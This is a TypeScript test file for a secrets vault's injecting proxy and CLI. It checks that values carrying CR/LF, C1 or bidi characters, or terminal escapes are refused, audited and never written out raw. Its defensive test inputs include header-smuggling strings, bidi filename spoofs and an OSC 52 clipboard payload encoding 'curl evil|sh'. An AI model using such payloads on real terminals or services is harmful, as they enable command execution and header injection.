/**
 * Hostile bytes in secret values followed to where they are written out (docs/security.md, "Hostile
 * bytes in values"): a value is supplied by the owner but often comes from elsewhere (a pasted token,
 * an import file, a rotation hook's output), so it may hold CR/LF, NUL, characters above U+00FF,
 * terminal escapes or invalid UTF-8.
 *
 * - The injecting proxy (src/proxy/lease-egress.ts `checkHeaderValue`): ForwardProxy over LeaseEgress
 *   over a real vault on a SQLite file; upstreams are loopback TLS servers this file starts: a Node
 *   HTTP/1.1 server, and a raw TLS server that offers only `h2` and records the bytes it is sent
 *   (what is on the wire, before any server's own validation). Nothing leaves 127.0.0.1.
 * - `lessor secret get --reveal` on a terminal (util-linux `script`, the built `dist/` CLI).
 */
import { randomBytes } from "node:crypto";
import * as http2 from "node:http2";
import * as https from "node:https";
import type { AddressInfo, Socket } from "node:net";
import { after, describe, test } from "node:test";
import assert from "node:assert/strict";
import * as tls from "node:tls";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { inProcessApi } from "../src/backend/in-process.js";
import { LocalCa } from "../src/proxy/ca.js";
import { ForwardProxy } from "../src/proxy/forward.js";
import { SsrfGuard } from "../src/proxy/guard.js";
import { LeaseEgress, type InjectionRule, type ProxyCredential } from "../src/proxy/lease-egress.js";
import { makePlaceholder } from "../src/proxy/placeholder.js";
import { BIN, cliHome, liveLeases, runCli, seedHome } from "./cli-harness.js";
import { grant, makeVault } from "./helpers.js";
import { hasScript, pty, type PtyOptions } from "./pty.js";
import { connectTunnel, inTime, loopbackOnly, openTunnel, readAll, tableResolver, tlsIn } from "./proxy-harness.js";

const H1 = "h1.hostile.test.example"; // a Node HTTP/1.1 upstream
const H2 = "h2.hostile.test.example"; // a raw TLS upstream that speaks (only) ALPN h2 and records bytes
const CANARY = "ghp_" + randomBytes(18).toString("hex");

const upCa = LocalCa.create({ permitted: [H1, H2] });
/** What the HTTP/1.1 upstream received: raw header lines as Node parsed them. */
const h1Seen: string[][] = [];
const h1up = https.createServer({ SNICallback: upCa.sniCallback, ALPNProtocols: ["http/1.1"] }, (req, res) => {
  h1Seen.push(req.rawHeaders);
  req.resume();
  req.on("end", () => res.end("ok"));
});
/** Every byte the raw h2 upstream was sent, decrypted. */
const h2Wire: Buffer[] = [];
const h2Sockets = new Set<tls.TLSSocket>();
const h2up = tls.createServer({ SNICallback: upCa.sniCallback, ALPNProtocols: ["h2"] }, (s) => {
  h2Sockets.add(s);
  s.on("data", (d: Buffer) => h2Wire.push(d));
  s.on("error", () => {});
  s.once("close", () => h2Sockets.delete(s));
  // It never answers: what matters is what it was sent.
  setTimeout(() => s.destroy(), 2000).unref();
});
await new Promise<void>((r) => h1up.listen(0, "127.0.0.1", r));
await new Promise<void>((r) => h2up.listen(0, "127.0.0.1", r));
const h1port = (h1up.address() as AddressInfo).port;
const h2port = (h2up.address() as AddressInfo).port;

interface Rig {
  port: number;
  ph: string;
  admin: Awaited<ReturnType<typeof makeVault>>["vault"] extends { admin(): infer A } ? A : never;
  close(): Promise<void>;
}
const rigs: Rig[] = [];
after(async () => {
  for (const r of rigs) await r.close().catch(() => {});
  for (const s of h2Sockets) s.destroy();
  h1up.closeAllConnections();
  await inTime(Promise.all([new Promise<void>((r) => h1up.close(() => r())), new Promise<void>((r) => h2up.close(() => r()))]), 5000, "closing the upstreams").catch(() => {});
});

/** A proxy for agent "bot" holding `tok` (for H1 and H2, or only H1 with `away`, when a second secret covers H2). */
async function rig(value: string, rule: InjectionRule, away = false): Promise<Rig> {
  const { vault } = await makeVault({ policy: grant("g", ["bot"], ["tok", "away"], [H1, H2]) });
  const admin = vault.admin();
  await admin.storeSecret({ name: "tok", value });
  const lease = await admin.requestLease({ agent: "bot", secret: "tok", domains: away ? [H1] : [H1, H2] });
  const ph = makePlaceholder(value);
  const creds: ProxyCredential[] = [{ lease, secret: "global/tok", placeholder: ph, value, rule }];
  if (away) {
    const other = "sk-" + randomBytes(18).toString("hex");
    await admin.storeSecret({ name: "away", value: other });
    const l2 = await admin.requestLease({ agent: "bot", secret: "away", domains: [H2] });
    creds.push({ lease: l2, secret: "global/away", placeholder: makePlaceholder(other), value: other, rule: { mode: "placeholder" } });
  }
  const egress = new LeaseEgress({ api: inProcessApi(vault), agent: "bot", credentials: creds, egress: "strict", warn: () => {} });
  const guard = new SsrfGuard({ ports: [h1port, h2port], allow: ["127.0.0.0/8"], resolve: tableResolver({ [H1]: "127.0.0.1", [H2]: "127.0.0.1" }) });
  const proxy = new ForwardProxy({ egress, ca: LocalCa.create({ permitted: [H1, H2] }), guard, upstreamCa: upCa.certPem, connect: loopbackOnly() });
  const port = await proxy.listen();
  egress.start();
  let closed = false;
  const r: Rig = {
    port,
    ph,
    admin,
    close: async () => {
      if (closed) return;
      closed = true;
      await proxy.close();
      await egress.close();
    },
  };
  rigs.push(r);
  return r;
}

/** One HTTP/1.1 request through a tunnel to the HTTP/1.1 upstream; the proxy's answer as text. */
async function viaH1(r: Rig, headers: Record<string, string>): Promise<string> {
  const s = await openTunnel(r.port, H1, h1port);
  const lines = Object.entries(headers).map(([k, v]) => `${k}: ${v}\r\n`).join("");
  s.write(`GET /x HTTP/1.1\r\nHost: ${H1}\r\n${lines}Connection: close\r\n\r\n`);
  return readAll(s, 6000);
}

/** One HTTP/2 request through a tunnel to the h2 upstream; the proxy's status and body (or what failed). */
async function viaH2(r: Rig, headers: Record<string, string>): Promise<string> {
  const raw: Socket = await connectTunnel(r.port, H2, h2port);
  const t = await tlsIn(raw, H2, "h2");
  const session = http2.connect(`https://${H2}`, { createConnection: () => t });
  session.on("error", () => {});
  try {
    return await new Promise<string>((resolve) => {
      const st = session.request({ ":path": "/x", ":authority": H2, ...headers });
      let out = "";
      st.on("response", (h) => (out += `${h[":status"]} `));
      st.on("data", (d: Buffer) => (out += d.toString()));
      st.on("close", () => resolve(out));
      st.on("error", (e) => resolve(`${out} ${String(e)}`));
      // The raw upstream never answers: a request the proxy forwarded ends here.
      setTimeout(() => resolve(`${out} (no answer: forwarded)`), 4000).unref();
    });
  } finally {
    session.destroy();
    raw.destroy();
  }
}

describe("the proxy injects only values a header can carry as they are (src/proxy/lease-egress.ts)", () => {
  const hostile: [string, string][] = [
    // U+010A and U+010D: Node's HTTP/2 client writes the low byte of each, a bare LF and CR on the wire.
    ["U+010A U+010D", `${CANARY}\u010a\u010dX-Evil: 1~~~~~~~~~~~~~~~~`],
    ["a character above U+00FF (€)", `${CANARY}€`],
    ["NEL (U+0085, a C1 line break)", `${CANARY}\u0085X-Evil: 1`],
    ["CR LF", `${CANARY}\r\nX-Evil: 1`],
  ];
  const rules: InjectionRule[] = [{ mode: "bearer" }, { mode: "header", header: "x-api-key" }, { mode: "placeholder" }];

  test("a value with CR/LF, NEL or a character above U+00FF is refused at injection (invalid_request, audited); no upstream gets a byte of it, over HTTP/1.1 or HTTP/2, and the proxy lives on", { timeout: 120_000 }, async () => {
    for (const [what, value] of hostile)
      for (const rule of rules) {
        const r = await rig(value, rule);
        const headers: Record<string, string> = rule.mode === "placeholder" ? { authorization: `Bearer ${r.ph}` } : {};
        h1Seen.length = 0;
        h2Wire.length = 0;
        const a1 = await viaH1(r, headers);
        const a2 = await viaH2(r, headers);
        const label = `${what}, mode ${rule.mode}`;
        assert.match(a1, /^HTTP\/1\.1 502 /, `${label} (HTTP/1.1): ${a1.slice(0, 200)}`);
        assert.match(a1, /"reason":"invalid_request"/, label);
        assert.match(a1, /the value of global\/tok holds a (control character or line break|character outside ASCII)/, label);
        assert.match(a2, /^502 .*invalid_request/, `${label} (HTTP/2): ${a2.slice(0, 200)}`);
        for (const answer of [a1, a2]) assert.ok(!answer.includes(CANARY), `${label}: the answer names no part of the value`);
        assert.deepEqual(h1Seen, [], `${label}: the HTTP/1.1 upstream got no request`);
        const wire = Buffer.concat(h2Wire).toString("latin1");
        assert.ok(!wire.includes("X-Evil") && !wire.includes(CANARY), `${label}: the h2 upstream got none of the value: ${JSON.stringify(wire.slice(-120))}`);

        // The proxy is still up: a request without the credential's placeholder goes through.
        if (rule.mode === "placeholder") {
          const plain = await viaH1(r, {});
          assert.match(plain, /^HTTP\/1\.1 200 /, `${label}: the proxy still serves`);
        }
        await r.close();
        const rows = (await r.admin.auditQuery({})).filter((e) => e.type === "proxy_request");
        assert.ok(rows.length >= 2, `${label}: the refusals are audited`);
        for (const row of rows.filter((e) => e.outcome !== "ok")) {
          assert.equal(row.outcome, "denied", label);
          assert.match(row.reason ?? row.detail ?? "", /invalid_request/, label);
          assert.ok(!JSON.stringify(row).includes(CANARY), `${label}: no part of the value in the trail`);
        }
      }
  });

  test("a value rotated under the run to bytes that are not UTF-8 is refused as that (502 invalid_request, audited), not as a vault that could not be asked", { timeout: 60_000 }, async () => {
    const r = await rig(CANARY, { mode: "bearer" });
    h1Seen.length = 0;
    assert.match(await viaH1(r, {}), /^HTTP\/1\.1 200 /, "the first value goes");
    await r.admin.storeSecret({ name: "tok", value: Buffer.concat([Buffer.from(CANARY), Buffer.from([0xff, 0xfe])]) });
    const a = await viaH1(r, {});
    assert.match(a, /^HTTP\/1\.1 502 /, a.slice(0, 300));
    assert.match(a, /"reason":"invalid_request"/);
    assert.match(a, /the value of global\/tok is not UTF-8 text/);
    assert.equal(h1Seen.length, 1, "the second request did not go upstream");
    await r.close();
    const refused = (await r.admin.auditQuery({})).filter((e) => e.type === "proxy_request" && e.outcome !== "ok");
    assert.equal(refused.length, 1);
    assert.match(refused[0]!.reason ?? refused[0]!.detail ?? "", /invalid_request/);
  });

  test("an HTTP/2 :path with a C1 or bidi character cannot erase the trail's proxy_request rows of the requests batched with it", { timeout: 60_000 }, async () => {
    const r = await rig(CANARY, { mode: "placeholder" });
    const raw: Socket = await connectTunnel(r.port, H1, h1port);
    const t = await tlsIn(raw, H1, "h2");
    const session = http2.connect(`https://${H1}`, { createConnection: () => t });
    session.on("error", () => {});
    const ask = (path: string): Promise<string> =>
      new Promise((resolve) => {
        const st = session.request({ ":path": path, ":authority": H1, authorization: `Bearer ${r.ph}` });
        let out = "";
        st.on("response", (h) => (out += `${h[":status"]} `));
        st.on("data", (d: Buffer) => (out += d.toString()));
        st.on("close", () => resolve(out));
        st.on("error", (e) => resolve(`${out} ${String(e)}`));
      });
    h1Seen.length = 0;
    const answers = await Promise.all([ask("/ok/1"), ask("/evil/\u009b2J"), ask("/evil/\u202egnp.exe"), ask("/ok/2")]);
    session.destroy();
    raw.destroy();
    await r.close();
    const rows = (await r.admin.auditQuery({})).filter((e) => e.type === "proxy_request");
    const paths = rows.map((e) => JSON.parse(e.detail ?? "{}").path as string);
    assert.ok(paths.includes("/ok/1") && paths.includes("/ok/2"), `the two plain requests are in the trail: ${JSON.stringify(paths)} (answers ${JSON.stringify(answers)})`);
    assert.equal(rows.length, 4, `every request has its row: ${JSON.stringify(paths)}`);
    for (const e of rows) assert.ok(!/[\u0080-\u009f\u202e]/.test(JSON.stringify(e)), "no raw C1 or bidi character in the trail");
  });

  test("the tripwire's alarm holds when the stray request's HTTP/2 :path carries a C1 control: the lease is revoked in the vault and the alarm is in the trail", { timeout: 60_000 }, async () => {
    const r = await rig(CANARY, { mode: "placeholder" }, true);
    const raw: Socket = await connectTunnel(r.port, H2, h2port);
    const t = await tlsIn(raw, H2, "h2");
    const session = http2.connect(`https://${H2}`, { createConnection: () => t });
    session.on("error", () => {});
    // tok's placeholder to H2, which only the other lease covers.
    const answer = await new Promise<string>((resolve) => {
      const st = session.request({ ":path": "/x/\u009b2J", ":authority": H2, authorization: `Bearer ${r.ph}` });
      let out = "";
      st.on("response", (h) => (out += `${h[":status"]} `));
      st.on("data", (d: Buffer) => (out += d.toString()));
      st.on("close", () => resolve(out));
      st.on("error", (e) => resolve(`${out} ${String(e)}`));
    });
    session.destroy();
    raw.destroy();
    assert.match(answer, /^403 .*tripwire/, answer);
    await r.close();
    const tok = (await r.admin.listLeases({ agent: "bot" })).find((l) => l.name === "tok")!;
    assert.notEqual(tok.revokedAt, null, "the vault revoked the lease whose credential went astray");
    const alarms = (await r.admin.auditQuery({})).filter((e) => e.type === "proxy_request" && (e.reason ?? "").startsWith("tripwire"));
    assert.equal(alarms.length, 1, "the alarm is in the trail");
    assert.ok(!/[\u0080-\u009f]/.test(JSON.stringify(alarms[0])), "no raw C1 character in the row");
  });

  test("a non-ASCII value is not sent with mode = basic either (an upstream decoding Basic as ISO-8859-1 would echo it back in a form no mask models); an ASCII one goes as the base64 of its exact bytes", { timeout: 60_000 }, async () => {
    const value = `${CANARY}€é`;
    const r = await rig(value, { mode: "basic", username: "u" });
    h1Seen.length = 0;
    const a = await viaH1(r, {});
    assert.match(a, /^HTTP\/1\.1 502 /, a.slice(0, 200));
    assert.match(a, /outside ASCII, which lessor does not inject/);
    assert.equal(h1Seen.length, 0, "the upstream got the request");
    await r.close();
    const ascii = `${CANARY}:x!~`;
    const ok = await rig(ascii, { mode: "basic", username: "u" });
    const b = await viaH1(ok, {});
    assert.match(b, /^HTTP\/1\.1 200 /, b.slice(0, 200));
    const got = h1Seen[0]!;
    const auth = got[got.findIndex((k, i) => i % 2 === 0 && k.toLowerCase() === "authorization") + 1]!;
    assert.deepEqual(Buffer.from(auth.replace(/^Basic /, ""), "base64"), Buffer.from(`u:${ascii}`, "utf8"));
    await ok.close();
  });
});

describe("secret get --reveal and lessor lease on a terminal (src/cli/format/terminal-safe.ts unsafeForTerminal)", { skip: !hasScript && "util-linux script (bsdutils) is not installed" }, () => {
  const PTY: PtyOptions = { killAfterMs: 30_000, waitForMs: 20_000 };
  const lessorCmd = (args: string): string => `${JSON.stringify(process.execPath)} ${JSON.stringify(BIN)} ${args}`;

  test("a value holding terminal escapes (OSC 52, ESC [2J, C1 CSI, bidi, a bare 0x9b byte) is not written to the terminal by secret get --reveal, lessor lease or lessor inject; a pipe and --json still get the exact bytes", { timeout: 120_000 }, async () => {
    const home = await cliHome();
    const values: Record<string, Buffer> = {
      osc52: Buffer.from(`${CANARY}\x1b]52;c;${Buffer.from("curl evil|sh").toString("base64")}\x07`),
      clear: Buffer.from(`${CANARY}\x1b[2J\x1b[H`),
      csi: Buffer.from(`${CANARY}\u009b2J`),
      bidi: Buffer.from(`${CANARY}\u202e`),
      raw9b: Buffer.concat([Buffer.from(CANARY), Buffer.from([0x9b, 0x32, 0x4a])]),
    };
    const env = { LESSOR_HOME: home };
    for (const [name, value] of Object.entries(values)) {
      const set = await runCli(["secret", "set", name, "--keep-newline"], { home, input: value });
      assert.equal(set.code, 0, set.stderr);
      const t = pty(lessorCmd(`secret get ${name} --reveal`), env, PTY);
      const code = await t.exit();
      assert.equal(code, 2, `${name}: refused on a terminal (invalid_request)`);
      assert.ok(!t.out.includes("\x1b]52") && !t.out.includes("\x1b[2J") && !t.out.includes("\u009b") && !t.out.includes("\u202e"), `${name}: nothing reached the terminal raw: ${JSON.stringify(t.out)}`);
      assert.ok(!t.out.includes(CANARY), `${name}: the value was not printed`);
      assert.match(t.out, /would act on this terminal/, name);
      assert.match(t.out, /--reveal > FILE/, `${name}: says how to get the bytes`);
      // Off a terminal the bytes are written as they are (docs/cli/secret.md); --json gives them as base64.
      const piped = await runCli(["secret", "get", name, "--reveal"], { home });
      assert.equal(piped.code, 0, piped.stderr);
      assert.ok(piped.stdout.startsWith(CANARY), `${name}: a pipe gets the value`);
      const json = await runCli(["secret", "get", name, "--reveal", "--json"], { home });
      assert.equal(json.code, 0, json.stderr);
      assert.deepEqual(Buffer.from(JSON.parse(json.stdout).value as string, "base64"), value, `${name}: --json gives the exact bytes`);
    }
    // lessor lease prints the value too: refused on a terminal the same way, and its lease revoked.
    await seedHome(home, grant("g", ["bot"], ["osc52", "pem"], ["api.example.com"]), []);
    const l = pty(lessorCmd("lease osc52 --agent bot --domain api.example.com"), env, PTY);
    assert.equal(await l.exit(), 2, l.out);
    assert.ok(!l.out.includes("\x1b]52") && !l.out.includes(CANARY), `lease: nothing of the value reached the terminal: ${JSON.stringify(l.out)}`);
    assert.match(l.out, /would act on this terminal/);
    assert.equal(await liveLeases(home, "bot"), 0, "the lease whose value was not printed is revoked");

    // lessor inject rendering to the terminal: refused, nothing written, its leases revoked; to a pipe the bytes.
    const tmpl = join(home, "..", "osc52.tmpl");
    writeFileSync(tmpl, "key: $S:osc52\n");
    const i = pty(lessorCmd(`inject -i ${JSON.stringify(tmpl)} --agent bot --domain api.example.com`), env, PTY);
    assert.equal(await i.exit(), 2, i.out);
    assert.ok(!i.out.includes("\x1b]52") && !i.out.includes(CANARY), `inject: nothing of the value reached the terminal: ${JSON.stringify(i.out)}`);
    assert.match(i.out, /would act on this terminal/);
    assert.equal(await liveLeases(home, "bot"), 0, "inject's leases are revoked");
    const ip = await runCli(["inject", "-i", tmpl, "--agent", "bot", "--domain", "api.example.com"], { home });
    assert.equal(ip.code, 0, ip.stderr);
    assert.ok(ip.stdout.startsWith(`key: ${CANARY}\x1b]52`), "a pipe gets the rendered bytes");

    // A plain value, and a PEM-like one with line breaks and tabs, still show on a terminal.
    await runCli(["secret", "set", "pem", "--keep-newline"], { home, input: `-----BEGIN KEY-----\n\t${CANARY}\n-----END KEY-----` });
    const t = pty(lessorCmd("secret get pem --reveal"), env, PTY);
    assert.equal(await t.exit(), 0);
    assert.ok(t.out.includes(CANARY), t.out);
    const lp = pty(lessorCmd("lease pem --agent bot --domain api.example.com"), env, PTY);
    assert.equal(await lp.exit(), 0, lp.out);
    assert.ok(lp.out.includes(CANARY), lp.out);
  });
});

describe("secret export to stdout (src/cli/secret/dotenv.ts, json-format.ts)", () => {
  test("values with C1 controls, bidi overrides or U+2028 are exported without a raw one (dotenv as base64, JSON as \\u escapes) and import back byte for byte", { timeout: 120_000 }, async () => {
    const home = await cliHome();
    const values: Record<string, Buffer> = {
      CSI: Buffer.from(`${CANARY}\u009b2J\u009b31m`),
      BIDI: Buffer.from(`${CANARY}\u202egnp.exe`),
      LSEP: Buffer.from(`${CANARY}\u2028X=1`),
      ZWSP: Buffer.from(`${CANARY}\u200b`),
      PLAIN: Buffer.from(`${CANARY} "quoted" $HOME\n`),
    };
    for (const [name, value] of Object.entries(values)) {
      const set = await runCli(["secret", "set", name, "--keep-newline"], { home, input: value });
      assert.equal(set.code, 0, set.stderr);
    }
    for (const format of ["dotenv", "json"]) {
      const out = await runCli(["secret", "export", "--format", format], { home });
      assert.equal(out.code, 0, out.stderr);
      assert.ok(!/[\u0080-\u009f\u200b\u202e\u2028]/.test(out.stdout), `${format}: no raw C1, bidi, zero-width or separator character: ${JSON.stringify(out.stdout)}`);
      const again = await cliHome();
      const imp = await runCli(["secret", "import", "--format", format, "-"], { home: again, input: out.stdout });
      assert.equal(imp.code, 0, `${format}: ${imp.stderr}`);
      for (const [name, value] of Object.entries(values)) {
        const back = await runCli(["secret", "get", name, "--reveal", "--json"], { home: again });
        assert.deepEqual(Buffer.from(JSON.parse(back.stdout).value as string, "base64"), value, `${format}: ${name} round-trips`);
      }
    }
  });
});
